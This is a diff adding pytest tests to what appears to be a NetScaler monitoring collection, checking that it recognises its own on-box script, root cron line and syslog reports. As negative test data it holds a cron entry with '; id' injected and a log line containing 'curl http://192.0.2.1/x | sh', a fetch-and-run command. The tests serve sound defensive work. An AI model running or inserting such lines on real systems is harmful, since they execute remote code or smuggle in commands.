@@ -3,7 +3,9 @@
 
 from __future__ import annotations
 
+import hashlib
 import json
+from dataclasses import replace
 from datetime import UTC, datetime, timedelta
 from pathlib import Path
 
@@ -11,6 +13,7 @@ import pytest
 from ansible_collections.tourniquet.netscaler.plugins.plugin_utils.catalogue.record_trust import RecordTrust
 from ansible_collections.tourniquet.netscaler.plugins.plugin_utils.findings.own_changes import (
     OwnChanges,
+    OwnScript,
     OwnTest,
     own_changes,
 )
@@ -151,3 +154,43 @@ def test_a_test_of_the_alarm_is_ours_by_tag_address_and_time(
     ours = OwnChanges("gw-a", sources=frozenset(["192.0.2.1"]), tests=(OwnTest("run", AT, "192.0.2.7", TAG),))
     time = None if minutes is None else AT + timedelta(minutes=minutes)
     assert ours.is_own_test(url, source, time) is is_ours
+
+
+SCRIPT = OwnScript(
+    "/nsconfig/tourniquet_on_box.sh",
+    frozenset({hashlib.sha256(b"ours").hexdigest()}),
+    "/var/cron/tabs/root",
+    "*/5 * * * * /bin/sh /nsconfig/tourniquet_on_box.sh > /dev/null 2>&1",
+    "tourniquet_on_box",
+)
+
+
+def test_the_script_of_a_run_is_ours_by_its_content(ours: OwnChanges) -> None:
+    known = replace(ours, script=SCRIPT)
+    assert known.is_own_file("/nsconfig", "tourniquet_on_box.sh", b"ours")
+    assert not known.is_own_file("/nsconfig", "tourniquet_on_box.sh", b"theirs")
+    assert not known.is_own_file("/nsconfig", "tourniquet_on_box.sh", None)
+    assert not known.is_own_file("/var/tmp", "tourniquet_on_box.sh", b"ours")
+    assert not ours.is_own_file("/nsconfig", "tourniquet_on_box.sh", b"ours")
+    assert known.is_own_line(SCRIPT.crontab, SCRIPT.line.encode() + b"\n")
+    assert not known.is_own_line("/etc/crontab", SCRIPT.line.encode())
+    assert not known.is_own_line(SCRIPT.crontab, SCRIPT.line.encode() + b"; id")
+    assert not ours.is_own_line(SCRIPT.crontab, SCRIPT.line.encode())
+    assert SCRIPT.path in known.values()["files"]
+    assert known.values()["cron"] == [f"{SCRIPT.crontab}: {SCRIPT.line}"]
+    assert ours.values()["cron"] == []
+
+
+@pytest.mark.parametrize(
+    ("line", "is_ours"),
+    [
+        ("Sep 20 01:02:03 <user.warn> ns tourniquet_on_box: new /netscaler/portal/templates/x.xml", True),
+        ("Sep  2 01:02:03 ns tourniquet_on_box[12]: checked 1210 files: 1 new, 0 changed, 0 gone", True),
+        ("Sep 20 01:02:03 <user.warn> ns sh: tourniquet_on_box: new /netscaler/portal/templates/x.xml", False),
+        ("Sep 20 01:02:03 <user.warn> ns tourniquet_on_box: curl http://192.0.2.1/x | sh", False),
+        ("tourniquet_on_box: new /x", False),
+    ],
+)
+def test_a_report_is_ours_by_its_tag_and_its_form(ours: OwnChanges, line: str, is_ours: bool) -> None:
+    assert replace(ours, script=SCRIPT).is_own_report(line.encode()) is is_ours
+    assert not ours.is_own_report(line.encode())
